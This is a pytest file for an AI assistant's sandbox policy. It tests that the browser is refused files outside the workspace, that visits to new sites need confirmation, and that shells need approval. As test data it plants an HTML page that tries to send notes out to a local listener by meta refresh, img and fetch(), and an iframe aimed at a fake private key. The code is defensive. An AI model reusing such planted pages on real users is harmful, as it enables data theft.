"""Issue 25's unasked actions outside the sandbox, each a test: the browser may not open files
outside the workspace nor send a planted page's data out, a plan going to a new site is asked
about, and start_program runs only known applications unasked."""
from __future__ import annotations

import http.server
import threading
from pathlib import Path

import pytest

from conftest import need_module
from kayas.assistant.policy import Policy
from kayas.assistant.router import Router
from kayas.backends import sites
from kayas.plan import Call
from kayas.registry import default_registry
from kayas.settings import config_file, workspace

need_module("playwright", "the browser tests drive Chromium through it")


class _Listener(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        _Listener.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"<title>got it</title>")

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    """A local server a planted page would send the notes to."""
    _Listener.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


@pytest.fixture
def secret(tmp_path) -> Path:
    out = tmp_path / "outside"
    out.mkdir()
    (out / "id_rsa").write_text("-----BEGIN KEY----- very secret")
    return out / "id_rsa"


def _run(steps):
    from kayas.backends import browser as backend
    from kayas.tools.browser import run_steps

    try:
        return run_steps(steps)
    finally:
        backend.close_session()


def test_a_file_outside_the_workspace_is_refused(secret):
    from kayas.tools.browser import BrowserStepError

    with pytest.raises(BrowserStepError, match="outside the workspace"):
        _run([{"action": "goto", "args": {"url": secret.as_uri()}},
              {"action": "screenshot", "args": {"filename": "key.png"}}])
    assert not (workspace() / "key.png").exists()


def test_a_planted_page_cannot_frame_a_file_outside(secret):
    from kayas.backends import browser as backend

    page = workspace() / "page.html"
    page.write_text(f'<html><body><iframe src="{secret.as_uri()}"></iframe>hello</body></html>')
    from kayas.tools.browser import run_steps

    try:
        run_steps([{"action": "goto", "args": {"url": page.as_uri()}}, {"action": "wait", "args": {"seconds": 0.5}}])
        frames = backend.session().page().frames
        assert not any("very secret" in f.content() for f in frames if not f.is_detached())
        assert any("outside the workspace" in why for why in backend.session().blocked)
    finally:
        backend.close_session()


def test_a_planted_page_cannot_send_the_notes_out(listener):
    (workspace() / "notes.txt").write_text("my bank pin 1234")
    page = workspace() / "page.html"
    page.write_text(f'<html><head><meta http-equiv="refresh" content="0; url=http://127.0.0.1:{listener}/?d=bXkgYmFuaw">'
                    f'</head><body><img src="http://127.0.0.1:{listener}/img?d=x">'
                    f'<script>fetch("http://127.0.0.1:{listener}/fetch?d=x")</script></body></html>')
    _run([{"action": "goto", "args": {"url": page.as_uri()}}, {"action": "wait", "args": {"seconds": 1.5}}])
    assert _Listener.hits == []


def test_a_goto_to_a_site_not_seen_before_is_asked_about():
    registry = default_registry()
    tool = registry.get("browser.run_steps")
    args = {"steps": [{"action": "goto", "args": {"url": "example.com"}}]}
    decision = Policy(registry=registry).decide_call(tool, args)
    assert decision.action == "confirm" and "example.com, not visited before" in decision.rule
    report = Router(registry, audit=None).run([Call(tool="browser.run_steps", args=args)])
    assert report.results[0].status == "refused" and "not confirmed" in (report.results[0].error or "")
    sites.remember({"example.com"})  # what a confirmed call leaves behind
    assert Policy(registry=registry).decide_call(tool, args).action == "allow"
    other = {"steps": [{"action": "goto", "args": {"url": "https://docs.github.com/x"}}]}
    assert Policy(registry=registry).decide_call(tool, other).action == "confirm"
    config_file().write_text('[browser]\nallowed_domains = ["github.com"]\n')
    assert Policy(registry=registry).decide_call(tool, other).action == "allow"


@pytest.mark.parametrize("program,action", [
    ("bash", "confirm"), ("sh", "confirm"), ("python3", "confirm"), ("yes", "confirm"), ("perl", "confirm"),
    ("some-unknown-tool", "confirm"), ("firefox", "allow"), ("calculator", "allow"), ("VS Code", "allow"),
])
def test_start_program_runs_only_known_applications_unasked(program, action):
    registry = default_registry()
    decision = Policy(registry=registry).decide_call(registry.get("process.start_program"), {"program": program})
    assert decision.action == action, decision


def test_an_unconfirmed_shell_is_not_started_and_the_allow_list_is_configurable():
    registry = default_registry()
    report = Router(registry).run([Call(tool="process.start_program", args={"program": "yes"})])
    assert report.results[0].status == "refused" and "'yes' is not one of the applications" in (report.results[0].error or "")
    config_file().write_text('[programs]\nallowed = ["yes"]\n')
    assert Policy(registry=registry).decide_call(registry.get("process.start_program"), {"program": "yes"}).action == "allow"
    config_file().write_text('[policy]\n"process.start_program" = "deny"\n')
    assert Policy.load(registry).decide_call(registry.get("process.start_program"), {"program": "firefox"}).action == "deny"


def test_a_call_that_asks_is_a_question_of_the_turn_before_anything_runs():
    """The turn asks what the router would otherwise refuse: every front end can then confirm it."""
    from kayas.assistant import Assistant

    assistant = Assistant()
    asked = assistant.start([Call(tool="process.start_program", args={"program": "bash"})])
    assert asked.question is not None and asked.question.kind == "confirm" and "bash" in asked.question.text
    assert assistant.start([Call(tool="process.start_program", args={"program": "firefox"})]).question is None
